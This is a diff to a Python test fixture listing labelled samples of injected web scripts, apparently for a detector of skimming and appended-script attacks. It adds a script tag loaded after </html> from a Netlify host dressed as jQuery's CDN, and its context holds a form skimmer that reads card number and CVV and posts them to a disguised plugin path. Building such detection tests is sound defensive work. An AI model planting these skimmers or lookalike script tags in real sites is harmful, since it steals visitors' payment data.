@@ -741,6 +741,9 @@ VARIANTS: list[tuple[str, dict[str, str], str]] = [
         "document.getElementById('cc-number').value,v:document.getElementById('cc-cvv').value};"
         "fetch('https://lakeside-bakery.test/wp-content/plugins/akismet/log.php',{method:'POST',"
         "body:JSON.stringify(d)});});</script>")}, "form-skimmer"),
+    ("a script after </html> on a hosting platform's name dressed as jQuery's", {"after": (
+        '<script src="https://cdn-jquery.netlify.app/jquery.min.js"></script>')},
+     "appended-script"),
     ("a script after </html> on a brand joined to CDN words in one word", {"after": (
         '<script src="https://stripecdn.test/v3/"></script>')}, "appended-script"),
     ("a script after </html> on a host dressed as a CDN", {"after": (
